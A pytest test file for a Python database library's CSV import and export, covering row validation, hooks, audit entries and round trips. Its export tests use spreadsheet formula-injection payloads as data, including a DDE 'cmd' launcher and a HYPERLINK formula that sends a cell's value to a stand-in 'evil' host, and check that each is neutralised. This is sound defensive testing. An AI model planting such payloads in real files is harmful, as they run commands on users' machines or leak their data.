"""import_csv checks every row as a REST create does, runs the hooks, and round-trips exactly.

On SQLite, PostgreSQL and MariaDB.
"""
import csv
import datetime
import decimal
import io
import uuid
import zipfile

import peewee
import pytest

import peestore
from peestore import AuditLog, ValidationError
from peestore.signals import after_insert, before_insert


class Press(peestore.BaseAuditedModel):
    name = peewee.CharField(max_length=20)
    status = peewee.CharField(max_length=10, default="idle",
                              choices=[("idle", "idle"), ("running", "running")])
    max_speed = peewee.FloatField(default=100.0)

    class Meta:
        table_name = "imp_press"
        component = "presses"


class Job(peestore.BaseAuditedModel):
    press = peewee.ForeignKeyField(Press, backref="jobs")
    speed = peewee.FloatField()
    duration_s = peewee.IntegerField(default=60)
    note = peewee.TextField(null=True)
    deleted_at = peewee.DateTimeField(null=True)

    class Meta:
        table_name = "imp_job"
        component = "jobs"


class Kinds(peestore.BaseAuditedModel):
    """One field of every kind, each nullable but one text field."""
    label = peewee.CharField(max_length=100, null=True)
    body = peewee.TextField(default="")
    count = peewee.IntegerField(null=True)
    big = peewee.BigIntegerField(null=True)
    ratio = peewee.FloatField(null=True)
    amount = peewee.DecimalField(max_digits=12, decimal_places=3, null=True)
    flag = peewee.BooleanField(null=True)
    at = peewee.DateTimeField(null=True)
    day = peewee.DateField(null=True)
    clock = peewee.TimeField(null=True)
    tag = peewee.UUIDField(null=True)
    blob = peewee.BlobField(null=True)
    press = peewee.ForeignKeyField(Press, null=True)

    class Meta:
        table_name = "imp_kinds"


MODELS = [Press, Job, Kinds]
JOB_HEADER = ["id", "press_id", "speed", "duration_s", "note", "deleted_at"]
PRESS_HEADER = ["id", "name", "status", "max_speed"]
INSERTED = []


@before_insert(sender=Job)
def check_job(sender, instance):
    """Like the demo's check_recipe: the speed is bounded by the press's."""
    press = Press.select().where(Press.id == instance.press_id).first()
    errors = {}
    if press is None:
        errors["press"] = "no such press"
    elif not 0 <= instance.speed <= press.max_speed:
        errors["speed"] = "must be between 0 and the press's max_speed (%g)" % press.max_speed
    if instance.duration_s <= 0:
        errors["duration_s"] = "must be greater than 0"
    if errors:
        raise ValidationError("invalid job: %s" % ", ".join(sorted(errors)), errors)


@before_insert(sender=Press)
def check_press(sender, instance):
    if not instance.name.strip():
        raise ValueError("a press needs a name")
    if instance.name == "stamped":
        return
    if instance.name.startswith("stamp-me"):
        instance.name = "stamped"  # a hook may change the row before it is written


@after_insert(sender=Job)
def note_job(sender, instance):
    INSERTED.append(instance.id)


def _zip(path, files):
    with zipfile.ZipFile(str(path), "w") as zf:
        for name, rows in files.items():
            buf = io.StringIO()
            csv.writer(buf, lineterminator="\r\n").writerows(rows)
            zf.writestr(name, buf.getvalue())
    return path


def _presses(*rows):
    return [PRESS_HEADER] + [list(r) for r in rows]


def _jobs(*rows):
    return [JOB_HEADER] + [list(r) for r in rows]


def _nothing_imported():
    return (Press.select().count() == 0 and Job.select().with_deleted().count() == 0
            and AuditLog.select().count() == 0)


def test_rows_pass_the_hooks_parents_first(connect_db, tmp_path):
    """Hooks run per row with an instance, after the parents' rows are in; after-hooks see
    the key; a hook may change the row; keys and deleted_at are imported as they are."""
    connect_db(MODELS)
    del INSERTED[:]
    path = _zip(tmp_path / "z.zip", {
        "imp_job.csv": _jobs(["7", "3", "80", "30", "", "2024-01-02T03:04:05"],
                             ["9", "3", "100", "1", "first", ""]),
        "imp_press.csv": _presses(["3", "stamp-me 1", "running", "100"])})
    with peestore.actor("importer"):
        assert peestore.import_csv(path) == {"imp_press": 1, "imp_job": 2}
    assert INSERTED == [7, 9]
    assert Press.get_by_id(3).name == "stamped"
    soft = Job.get_by_id(7, include_deleted=True)
    assert soft.deleted_at == datetime.datetime(2024, 1, 2, 3, 4, 5)
    assert [j.id for j in Job.select()] == [9]
    entries = list(AuditLog.select().order_by(AuditLog.id))
    assert [(e.component, e.operation, e.record_id, e.actor) for e in entries] == [
        ("presses", "import", "*", "importer"), ("jobs", "import", "*", "importer")]


def test_a_hook_refusing_a_row_fails_the_whole_import(connect_db, tmp_path):
    """speed 99999 where the hook allows 100: a 422 naming the file, the line and the field;
    nothing imported, the parents neither."""
    connect_db(MODELS)
    path = _zip(tmp_path / "z.zip", {
        "imp_press.csv": _presses(["1", "p", "idle", "100"]),
        "imp_job.csv": _jobs(["1", "1", "50", "10", "", ""], ["2", "1", "99999", "10", "", ""])})
    with pytest.raises(ValidationError) as info:
        peestore.import_csv(path)
    message = str(info.value)
    assert message.startswith("imp_job.csv line 3: field speed: must be between 0 and")
    assert "before_insert" in message
    assert info.value.errors == {"speed": "must be between 0 and the press's max_speed (100)"}
    assert _nothing_imported()


def test_a_hook_raising_valueerror_names_file_and_line(connect_db, tmp_path):
    """A plain ValueError from a hook is a ValidationError too, with its message."""
    connect_db(MODELS)
    path = _zip(tmp_path / "z.zip", {"imp_press.csv": _presses(["1", "  ", "idle", "5"])})
    with pytest.raises(ValidationError, match=r"imp_press.csv line 2: a press needs a name"):
        peestore.import_csv(path)
    assert _nothing_imported()


@pytest.mark.parametrize("row, column, reason", [
    (["1", "p", "exploding", "5"], "status", "must be one of: idle, running"),
    (["1", "p" * 21, "idle", "5"], "name", "at most 20 characters"),
    (["1", "p", "idle", "fast"], "max_speed", "expected a number"),
    (["1", "p", "idle", ""], "max_speed", "a value is required"),
    (["x", "p", "idle", "5"], "id", "expected an integer"),
    (["1", "p\x00", "idle", "5"], "name", "NUL"),
    (["99999999999999999999", "p", "idle", "5"], "id", "out of range"),
])
def test_values_are_checked_like_a_rest_create(connect_db, tmp_path, row, column, reason):
    """choices, length, type, NOT NULL, range: a 422 naming file, line and column."""
    connect_db(MODELS)
    path = _zip(tmp_path / "z.zip", {"imp_press.csv": _presses(["5", "ok", "idle", "5"], row)})
    with pytest.raises(ValidationError) as info:
        peestore.import_csv(path)
    assert str(info.value).startswith("imp_press.csv line 3, column %s: " % column)
    assert reason in str(info.value)
    assert list(info.value.errors) == [column]
    assert _nothing_imported()


def test_integer_columns_refuse_fractions_and_durations_go_through_the_hook(connect_db,
                                                                            tmp_path):
    """duration 1.5 is not an integer; duration -5 is, and the hook refuses it."""
    connect_db(MODELS)
    press = _presses(["1", "p", "idle", "100"])
    path = _zip(tmp_path / "a.zip", {"imp_press.csv": press,
                                     "imp_job.csv": _jobs(["1", "1", "5", "1.5", "", ""])})
    with pytest.raises(ValidationError, match="line 2, column duration_s: expected an integer"):
        peestore.import_csv(path)
    path = _zip(tmp_path / "b.zip", {"imp_press.csv": press,
                                     "imp_job.csv": _jobs(["1", "1", "5", "-5", "", ""])})
    with pytest.raises(ValidationError, match="line 2: field duration_s: must be greater"):
        peestore.import_csv(path)
    assert _nothing_imported()


def test_wrong_number_of_values_names_the_line(connect_db, tmp_path):
    """Fewer values than the header, or more: the line is named."""
    connect_db(MODELS)
    for rows, expected in (([["1", "p", "idle"]], "line 2: 3 values for 4 columns"),
                           ([["1", "p", "idle", "5"], ["2", "q", "idle", "5", "extra"]],
                            "line 3: more values than the header's 4 columns")):
        path = _zip(tmp_path / "z.zip", {"imp_press.csv": _presses(*rows)})
        with pytest.raises(ValidationError, match=expected):
            peestore.import_csv(path)
    assert _nothing_imported()


def test_empty_cells_null_and_empty_strings(connect_db, tmp_path):
    """A hand-made empty cell is NULL where the column allows it and "" in a NOT NULL text
    column; a quoted "" is the empty string."""
    connect_db(MODELS)
    path = tmp_path / "z.zip"
    with zipfile.ZipFile(str(path), "w") as zf:
        zf.writestr("imp_kinds.csv", "id,label,body,count,big,ratio,amount,flag,at,day,clock,"
                                     "tag,blob,press_id\r\n"
                                     "1,,,,,,,,,,,,,\r\n"
                                     '2,"","",,,,,,,,,,,\r\n')
    assert peestore.import_csv(path) == {"imp_kinds": 2}
    first, second = Kinds.select().order_by(Kinds.id)
    assert (first.label, first.body, first.count, first.flag) == (None, "", None, None)
    assert (second.label, second.body) == ("", "")


def test_a_table_without_a_model_is_checked_by_its_column_types(connect_db, tmp_path):
    """No model: the reflected column types, NOT NULL and varchar length still apply."""
    db = connect_db(MODELS)
    with db.connection_context() if db.is_closed() else _Null():
        db.execute_sql("CREATE TABLE imp_extra (id INTEGER PRIMARY KEY, label VARCHAR(5) "
                       "NOT NULL, amount INTEGER NOT NULL)")
    header = ["id", "label", "amount"]
    for row, expected in ((["1", "toolong", "5"], "column label: at most 5 characters"),
                          (["1", "ok", "many"], "column amount: expected an integer"),
                          (["1", "ok", ""], "column amount: a value is required")):
        path = _zip(tmp_path / "z.zip", {"imp_extra.csv": [header, row]})
        with pytest.raises(ValidationError, match="imp_extra.csv line 2, " + expected):
            peestore.import_csv(path)
    path = _zip(tmp_path / "z.zip", {"imp_extra.csv": [header, ["1", "ok", "5"]]})
    assert peestore.import_csv(path) == {"imp_extra": 1}


class _Null:
    def __enter__(self):
        return None

    def __exit__(self, *exc):
        return False


FORMULAS = ["=1+1", "-5", "+1", "@SUM(A1)", "\tindented", "\rcarriage", "'x", "''", "'",
            "=cmd|' /C calc'!A0", '=HYPERLINK("http://x")', "'=already"]
TEXTS = FORMULAS + ["", "plain", "a\r\nb\rc\nd", 'say "hi", ok', "Zoë 日本 \U0001F600",
                    "  spaced  ", "'abc", ",", '"']


def _kinds_rows():
    rows = [dict(label=text, body=text) for text in TEXTS]
    rows.append(dict(label=None, body="", count=-5, big=-(2 ** 62), ratio=-2.5,
                     amount=decimal.Decimal("-12.345"), flag=False,
                     at=datetime.datetime(2024, 5, 17, 8, 30, 15, 123456),
                     day=datetime.date(2024, 5, 17), clock=datetime.time(23, 59, 58),
                     tag=uuid.UUID("12345678-1234-5678-1234-567812345678"),
                     blob=b"\x00\xff=bin", press=1))
    rows.append(dict(label="=x", count=0, ratio=0.1, amount=decimal.Decimal("0.001"),
                     flag=True, blob=b""))
    return rows


def _kinds_values():
    return [(k.id, k.label, k.body, k.count, k.big, k.ratio, k.amount, k.flag, k.at, k.day,
             k.clock, k.tag, None if k.blob is None else bytes(k.blob), k.press_id)
            for k in Kinds.select().order_by(Kinds.id)]


def test_export_then_import_gives_back_exactly_the_same_values(connect_db, tmp_path):
    """Every field kind, formula-looking text, quotes, line breaks, NULL and "" survive."""
    connect_db(MODELS)
    Press.create(id=1, name="p")
    for row in _kinds_rows():
        Kinds.create(**row)
    before = _kinds_values()
    path = peestore.export_csv(tmp_path / "out.zip", tables=["imp_press", "imp_kinds"])
    Kinds.delete().execute()
    Press.delete().execute()
    assert peestore.import_csv(path) == {"imp_press": 1, "imp_kinds": len(before)}
    assert _kinds_values() == before


def test_export_neutralises_formula_cells_and_nothing_else(connect_db, tmp_path):
    """Text starting with = + - @ tab CR or ' gets a ' in front; numbers never do."""
    connect_db(MODELS)
    Press.create(id=1, name="p")
    for row in _kinds_rows():
        Kinds.create(**row)
    path = peestore.export_csv(tmp_path / "out.zip", tables=["imp_kinds"])
    with zipfile.ZipFile(str(path)) as zf:
        rows = list(csv.reader(io.TextIOWrapper(zf.open("imp_kinds.csv"), encoding="utf-8",
                                                newline="")))
    header, *body = rows
    cells = [dict(zip(header, row)) for row in body]
    by_label = {text: cells[i] for i, text in enumerate(TEXTS)}
    for text in FORMULAS:
        assert by_label[text]["label"] == "'" + text
        assert by_label[text]["body"] == "'" + text
    assert by_label["=cmd|' /C calc'!A0"]["label"] == "'=cmd|' /C calc'!A0"
    assert by_label['=HYPERLINK("http://x")']["label"] == "'=HYPERLINK(\"http://x\")"
    assert by_label["plain"]["label"] == "plain" and by_label["'abc"]["label"] == "''abc"
    numbers = cells[len(TEXTS)]
    assert (numbers["count"], numbers["big"], numbers["ratio"], numbers["amount"]) == (
        "-5", str(-(2 ** 62)), "-2.5", "-12.345")
    with zipfile.ZipFile(str(path)) as zf:
        raw = zf.read("imp_kinds.csv").decode("utf-8")
    # NULL is an empty field, the empty string "" (the label of the numbers row is NULL).
    assert '\r\n%d,,"",-5,' % (len(TEXTS) + 1) in raw


def test_a_hand_made_leading_quote_stays(connect_db, tmp_path):
    """'abc stays 'abc; '=1 (what export writes for =1) becomes =1."""
    connect_db(MODELS)
    path = _zip(tmp_path / "z.zip", {"imp_press.csv": _presses(
        ["1", "'abc", "idle", "5"], ["2", "'=1", "idle", "5"], ["3", "'", "idle", "5"])})
    peestore.import_csv(path)
    assert [p.name for p in Press.select().order_by(Press.id)] == ["'abc", "=1", "'"]


def test_component_names_in_tables_and_in_file_names(connect_db, tmp_path):
    """tables= takes component or table names; <component>.csv imports into its table;
    an unknown name lists the tables and the components."""
    connect_db(MODELS)
    Press.create(id=1, name="p")
    path = peestore.export_csv(tmp_path / "a.zip", tables=["presses", "imp_press"])
    assert zipfile.ZipFile(str(path)).namelist() == ["imp_press.csv"]
    with pytest.raises(ValidationError) as info:
        peestore.export_csv(tmp_path / "b.zip", tables=["machines"])
    message = str(info.value)
    assert "no table or component machines" in message
    assert "imp_press" in message and "presses (table imp_press)" in message
    Press.delete().execute()
    path = _zip(tmp_path / "c.zip", {"presses.csv": _presses(["4", "q", "idle", "5"]),
                                     "jobs.csv": _jobs(["1", "4", "5", "5", "", ""])})
    assert peestore.import_csv(path) == {"imp_press": 1, "imp_job": 1}
    path = _zip(tmp_path / "d.zip", {"presses.csv": _presses(), "imp_press.csv": _presses()})
    with pytest.raises(ValidationError, match="table imp_press twice"):
        peestore.import_csv(path)


def test_header_errors_are_short_and_linear(connect_db, tmp_path):
    """Unknown and repeated columns are listed, at most ten names then "and N more"."""
    connect_db(MODELS)
    header = ["id", "name", "name", "max_speed"]
    path = _zip(tmp_path / "a.zip", {"imp_press.csv": [header]})
    with pytest.raises(ValidationError, match="missing columns: status; repeated columns: "
                                              "name"):
        peestore.import_csv(path)
    path = _zip(tmp_path / "b.zip", {"imp_press.csv": [["id", "a", "b", "c"]]})
    with pytest.raises(ValidationError) as info:
        peestore.import_csv(path)
    assert "missing columns: name, status, max_speed" in str(info.value)
    assert "unknown columns: a, b, c" in str(info.value)
    path = _zip(tmp_path / "b.zip", {"imp_kinds.csv": [["u%d" % i for i in range(14)]]})
    with pytest.raises(ValidationError) as info:
        peestore.import_csv(path)
    assert "unknown columns: u0, u1, u2, u3, u4, u5, u6, u7, u8, u9 and 4 more" in str(
        info.value)
    assert "expected: id, label, body, count, big, ratio, amount, flag, at, day and 4 more" \
        in str(info.value)
    path = _zip(tmp_path / "c.zip", {"imp_press.csv": [["c%d" % i for i in range(30)]]})
    with pytest.raises(ValidationError, match="more than the 4 columns of table imp_press"):
        peestore.import_csv(path)


class Log(peestore.BaseAuditedModel):
    """A log of its own: no audit entry per line."""
    operator = peewee.CharField(max_length=20)
    message = peewee.TextField()

    class Meta:
        table_name = "imp_log"
        component = "logs"
        audited = False


@pytest.mark.parametrize("mode", ["append", "replace"])
def test_an_unaudited_model_still_gets_its_import_entry(connect_db, tmp_path, mode):
    """Meta.audited = False spares the per-row entries, not the import's: replacing a log
    wholesale leaves one entry by the importer, and after_commit listeners hear it."""
    connect_db(MODELS + [Log])
    Log.create(operator="demo", message="the real line")
    assert AuditLog.select().count() == 0
    heard = []
    peestore.after_commit(Log)(lambda changes: heard.extend(
        (c.component, c.operation, c.record_id) for c in changes))
    path = _zip(tmp_path / "z.zip", {"logs.csv": [
        ["id", "operator", "message"], ["7", "demo", "all checks passed"]]})
    with peestore.actor("mallory"):
        assert peestore.import_csv(path, mode=mode) == {"imp_log": 1}
    entries = [(e.component, e.operation, e.record_id, e.actor, e.after)
               for e in AuditLog.select()]
    assert entries == [("logs", "import", "*", "mallory",
                        {"table": "imp_log", "rows": 1, "mode": mode})]
    assert heard == [("logs", "import", "*")]
    assert Log.select().count() == (1 if mode == "replace" else 2)


def test_replace_refuses_when_a_table_outside_the_zip_refers_to_the_rows(connect_db,
                                                                         tmp_path):
    """The demo's recipes (ON DELETE CASCADE) and log lines (SET NULL) refer to the machine:
    replacing machine.csv alone would wipe the recipes and clear the log's keys with no
    audit entry. It is refused, naming the tables, and nothing changes."""
    from peestore.demo import MODELS as DEMO, Machine, OperatorLog, Recipe, seed

    connect_db(DEMO)
    seed()
    path = peestore.export_csv(tmp_path / "machines.zip", tables=["machine"])
    state = [(Recipe.select().with_deleted().count(),
              OperatorLog.select().where(OperatorLog.machine.is_null(False)).count(),
              AuditLog.select().count())]
    with peestore.actor("mallory"), pytest.raises(ValidationError) as info:
        peestore.import_csv(path, mode="replace")
    message = str(info.value)
    assert "replace would delete rows that tables outside the zip refer to" in message
    assert "recipe (recipe.machine_id -> machine.id)" in message
    assert "operatorlog (operatorlog.machine_id -> machine.id)" in message
    assert info.value.errors == {"recipe": "refers to rows of machine",
                                 "operatorlog": "refers to rows of machine"}
    state.append((Recipe.select().with_deleted().count(),
                  OperatorLog.select().where(OperatorLog.machine.is_null(False)).count(),
                  AuditLog.select().count()))
    assert state[1] == state[0] == (2, 1, 3)
    assert Machine.select().count() == 1

    # With the recipes in the zip, only the log is left to refer to the machine.
    path = peestore.export_csv(tmp_path / "two.zip", tables=["machine", "recipe"])
    with pytest.raises(ValidationError) as info:
        peestore.import_csv(path, mode="replace")
    assert list(info.value.errors) == ["operatorlog"]
    # A NULL key refers to nothing: once the log line has none, replace goes through.
    OperatorLog.update(machine=None).execute()
    with peestore.actor("maintenance"):
        assert peestore.import_csv(path, mode="replace") == {"machine": 1, "recipe": 2}
    assert Recipe.select().with_deleted().count() == 2


FORMULA_NAMES = ['=HYPERLINK("http://evil/?"&A2,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
                 "-x", "+y", "'quoted", "plain"]


def _read_csv(path, name):
    with zipfile.ZipFile(str(path)) as zf:
        return list(csv.reader(io.TextIOWrapper(zf.open(name), encoding="utf-8",
                                                newline="")))


def test_header_cells_are_neutralised_and_imported_back(connect_db, tmp_path):
    """A table whose column names a spreadsheet would run as formulas: the header cells
    get a ' in front, and import takes it off again (the header matches the table)."""
    db = connect_db(MODELS)

    class Notes(peewee.Model):
        class Meta:
            database = db
            table_name = "imp_notes"
    for i, name in enumerate(FORMULA_NAMES):
        Notes._meta.add_field("f%d" % i, peewee.TextField(column_name=name, null=True))
    db.create_tables([Notes])
    values = {"f%d" % i: "=1+%d" % i for i in range(len(FORMULA_NAMES))}
    values["f5"] = "plain text"
    Notes.create(**values)
    path = peestore.export_csv(tmp_path / "notes.zip", tables=["imp_notes"])
    header, row = _read_csv(path, "imp_notes.csv")
    assert header == ["id"] + ["'" + name for name in FORMULA_NAMES[:5]] + ["plain"]
    assert row[1:] == ["'=1+0", "'=1+1", "'=1+2", "'=1+3", "'=1+4", "plain text"]
    Notes.delete().execute()
    with peestore.actor("importer"):
        assert peestore.import_csv(path) == {"imp_notes": 1}
    got = Notes.select().dicts().get()
    assert {k: v for k, v in got.items() if k != "id"} == values


def test_text_in_a_column_of_another_type_is_neutralised(sqlite_db, tmp_path):
    """SQLite keeps text given to a DATETIME, REAL or INTEGER column as text: those cells
    are neutralised too; numbers and dates written by export never are."""
    db = sqlite_db(MODELS)
    Press.create(id=1, name="p")
    Kinds.create(id=1, count=-5, ratio=-2.5, at=datetime.datetime(2024, 1, 2))
    Kinds.create(id=2)
    db.execute_sql("UPDATE imp_kinds SET at = ?, ratio = ?, count = ?, amount = ? WHERE id = 2",
                   ("=cmd|' /C calc'!A0", "+1+2", "-1+cmd", "@SUM(1)"))
    path = peestore.export_csv(tmp_path / "k.zip", tables=["imp_kinds"])
    header, first, second = _read_csv(path, "imp_kinds.csv")
    first, second = dict(zip(header, first)), dict(zip(header, second))
    assert (first["count"], first["ratio"], first["at"]) == ("-5", "-2.5",
                                                             "2024-01-02T00:00:00")
    assert (second["at"], second["ratio"], second["count"], second["amount"]) == (
        "'=cmd|' /C calc'!A0", "'+1+2", "'-1+cmd", "'@SUM(1)")
    # What export wrote for such a value is read back as that value (then checked).
    db.execute_sql("DELETE FROM imp_kinds")
    with pytest.raises(ValidationError, match="imp_kinds.csv line 3, column count"):
        peestore.import_csv(path)
